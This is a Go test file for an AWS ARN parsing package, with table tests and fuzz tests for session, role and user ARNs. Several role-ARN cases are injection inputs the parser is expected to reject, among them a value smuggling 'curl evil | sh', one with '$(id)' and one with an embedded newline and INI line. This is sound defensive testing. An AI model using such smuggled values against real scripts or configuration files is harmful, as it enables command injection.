package awsid

import (
	"strings"
	"testing"
)

var sessionARNTests = []struct {
	arn    string
	want   SessionARN
	wantOK bool
}{
	{"arn:aws:sts::111122223333:assumed-role/AmazonSageMaker-ExecutionRole-20240101T000000/SageMaker",
		SessionARN{"aws", "111122223333", "AmazonSageMaker-ExecutionRole-20240101T000000", "SageMaker"}, true},
	{"arn:aws-us-gov:sts::123456789012:assumed-role/ExampleRole/i-0a1b2c3d4e5f60718",
		SessionARN{"aws-us-gov", "123456789012", "ExampleRole", "i-0a1b2c3d4e5f60718"}, true},
	{"arn:aws-cn:sts::123456789012:assumed-role/R/jane.doe@example.com",
		SessionARN{"aws-cn", "123456789012", "R", "jane.doe@example.com"}, true},
	{"arn:aws-iso-b:sts::123456789012:assumed-role/R/botocore-session-1714554000",
		SessionARN{"aws-iso-b", "123456789012", "R", "botocore-session-1714554000"}, true},
	{"arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_Admin_0123456789abcdef/a=b,c",
		SessionARN{"aws", "111122223333", "AWSReservedSSO_Admin_0123456789abcdef", "a=b,c"}, true},
	{"arn:aws:iam::111122223333:user/pedro", SessionARN{}, false},
	{"arn:aws:iam::111122223333:role/assumed-role/x", SessionARN{}, false},
	{"arn:aws:sts::111122223333:assumed-role/OnlyRole", SessionARN{}, false},
	{"arn:aws:sts::111122223333:assumed-role//s", SessionARN{}, false},
	{"arn:aws:sts::111122223333:assumed-role/R/s", SessionARN{}, false}, // STS names have 2 characters or more
	{"arn:aws:sts::111122223333:assumed-role/R/a/b", SessionARN{}, false},
	{"arn:aws:sts::111122223333:assumed-role/R/" + strings.Repeat("s", 65), SessionARN{}, false},
	{"arn:aws:sts::111122223333:federated-user/bob", SessionARN{}, false},
	{"arn:aws:sts::12948575929274:assumed-role/AdminRole/user", SessionARN{}, false},
	{"arn:aws-foo:sts::111122223333:assumed-role/R/s1", SessionARN{}, false},
	{"arn:aws:sts::111122223333:assumed-role/R/has space", SessionARN{}, false},
	{"", SessionARN{}, false},
	{"not an arn:assumed-role/a/b", SessionARN{}, false},
}

func TestParseSessionARN(t *testing.T) {
	for _, tt := range sessionARNTests {
		t.Run(tt.arn, func(t *testing.T) {
			got, ok := ParseSessionARN(tt.arn)
			if ok != tt.wantOK || got != tt.want {
				t.Errorf("ParseSessionARN(%q) = %+v, %v, want %+v, %v", tt.arn, got, ok, tt.want, tt.wantOK)
			}
			if ok && got.String() != tt.arn {
				t.Errorf("ParseSessionARN(%q).String() = %q, want the input", tt.arn, got.String())
			}
		})
	}
}

var roleARNTests = []struct {
	arn    string
	want   RoleARN
	wantOK bool
}{
	{"arn:aws:iam::111122223333:role/service-role/AmazonSageMaker-ExecutionRole",
		RoleARN{"aws", "111122223333", "/service-role/", "AmazonSageMaker-ExecutionRole"}, true},
	{"arn:aws-cn:iam::111122223333:role/r", RoleARN{"aws-cn", "111122223333", "/", "r"}, true},
	{"arn:aws-us-gov:iam::111122223333:role/a/b/c+=,.@_-", RoleARN{"aws-us-gov", "111122223333", "/a/b/", "c+=,.@_-"}, true},
	{"arn:aws-iso:iam::111122223333:role/r", RoleARN{"aws-iso", "111122223333", "/", "r"}, true},
	{"arn:aws:iam::111122223333:role/" + strings.Repeat("p", MaxPathLen-2) + "/r",
		RoleARN{"aws", "111122223333", "/" + strings.Repeat("p", MaxPathLen-2) + "/", "r"}, true},
	{"arn:aws:iam::111122223333:role/" + strings.Repeat("p", MaxPathLen-1) + "/r", RoleARN{}, false},
	{"arn:aws-foo:iam::111122223333:role/r", RoleARN{}, false},
	{"arn:aws:iam::11112222333:role/r", RoleARN{}, false},
	{"arn:aws:iam::111122223333:user/r", RoleARN{}, false},
	{"arn:aws:sts::111122223333:assumed-role/r/s", RoleARN{}, false},
	{"arn:aws:iam::111122223333:role/", RoleARN{}, false},
	{"arn:aws:iam::111122223333:role//r", RoleARN{}, false},
	{"arn:aws:iam::111122223333:role/" + strings.Repeat("r", 65), RoleARN{}, false},
	{"arn:aws:iam::111122223333:role/r'; curl evil | sh; '", RoleARN{}, false},
	{"arn:aws:iam::111122223333:role/$(id)/r", RoleARN{}, false},
	{"arn:aws:iam::111122223333:role/r\nrole_arn = x", RoleARN{}, false},
	{" arn:aws:iam::111122223333:role/r", RoleARN{}, false},
}

func TestParseRoleARN(t *testing.T) {
	for _, tt := range roleARNTests {
		t.Run(tt.arn, func(t *testing.T) {
			got, ok := ParseRoleARN(tt.arn)
			if ok != tt.wantOK || got != tt.want {
				t.Errorf("ParseRoleARN(%q) = %+v, %v, want %+v, %v", tt.arn, got, ok, tt.want, tt.wantOK)
			}
			if ok && got.String() != tt.arn {
				t.Errorf("ParseRoleARN(%q).String() = %q, want the input", tt.arn, got.String())
			}
		})
	}
}

func TestParseUserARN(t *testing.T) {
	tests := []struct {
		arn    string
		want   UserARN
		wantOK bool
	}{
		{"arn:aws:iam::111122223333:user/pedro", UserARN{"aws", "111122223333", "/", "pedro"}, true},
		{"arn:aws:iam::111122223333:user/division_abc/subdivision_xyz/JaneDoe",
			UserARN{"aws", "111122223333", "/division_abc/subdivision_xyz/", "JaneDoe"}, true},
		{"arn:aws-cn:iam::111122223333:user/a@b.c", UserARN{"aws-cn", "111122223333", "/", "a@b.c"}, true},
		{"arn:aws:iam::111122223333:role/pedro", UserARN{}, false},
		{"arn:aws:iam::111122223333:root", UserARN{}, false},
		{"arn:aws:iam::111122223333:user/", UserARN{}, false},
		{"arn:aws:iam::1:user/pedro", UserARN{}, false},
	}
	for _, tt := range tests {
		got, ok := ParseUserARN(tt.arn)
		if ok != tt.wantOK || got != tt.want {
			t.Errorf("ParseUserARN(%q) = %+v, %v, want %+v, %v", tt.arn, got, ok, tt.want, tt.wantOK)
		}
		if ok && got.String() != tt.arn {
			t.Errorf("ParseUserARN(%q).String() = %q, want the input", tt.arn, got.String())
		}
	}
}

func addARNSeeds(f *testing.F) {
	for _, l := range readLines(f, "testdata/arns.txt") {
		f.Add(l)
	}
}

// validIAM checks the parts of a parsed role or user ARN.
func validIAM(t *testing.T, s string, a IAMARN) {
	t.Helper()
	if !IsPartition(a.Partition) || !IsAccount(a.Account) || a.Name == "" || len(a.Name) > 64 ||
		strings.Contains(a.Name, "/") || !strings.HasPrefix(a.Path, "/") || !strings.HasSuffix(a.Path, "/") ||
		strings.Contains(a.Path, "//") || len(a.Path) > MaxPathLen {
		t.Fatalf("parse(%q) = %+v: invalid part", s, a)
	}
	if strings.ContainsAny(s, "'\"`$;&|<>\\ \t\n(){}") {
		t.Fatalf("parse(%q) accepted a shell or INI metacharacter", s)
	}
}

// FuzzParseSessionARN: what parses rebuilds the input, and its parts are
// what STS issues.
func FuzzParseSessionARN(f *testing.F) {
	addARNSeeds(f)
	f.Fuzz(func(t *testing.T, s string) {
		got, ok := ParseSessionARN(s)
		if !ok {
			return
		}
		if got.String() != s {
			t.Fatalf("ParseSessionARN(%q).String() = %q", s, got.String())
		}
		if !IsPartition(got.Partition) || !IsAccount(got.Account) || !IsSessionName(got.SessionName) ||
			got.RoleName == "" || strings.Contains(got.RoleName, "/") {
			t.Fatalf("ParseSessionARN(%q) = %+v: invalid part", s, got)
		}
	})
}

// FuzzParseRoleARN: what parses rebuilds the input and is safe to write
// into a script.
func FuzzParseRoleARN(f *testing.F) {
	addARNSeeds(f)
	f.Fuzz(func(t *testing.T, s string) {
		got, ok := ParseRoleARN(s)
		if !ok {
			return
		}
		if got.String() != s {
			t.Fatalf("ParseRoleARN(%q).String() = %q", s, got.String())
		}
		validIAM(t, s, IAMARN(got))
	})
}

// FuzzParseUserARN: what parses rebuilds the input.
func FuzzParseUserARN(f *testing.F) {
	addARNSeeds(f)
	f.Fuzz(func(t *testing.T, s string) {
		got, ok := ParseUserARN(s)
		if !ok {
			return
		}
		if got.String() != s {
			t.Fatalf("ParseUserARN(%q).String() = %q", s, got.String())
		}
		validIAM(t, s, IAMARN(got))
	})
}
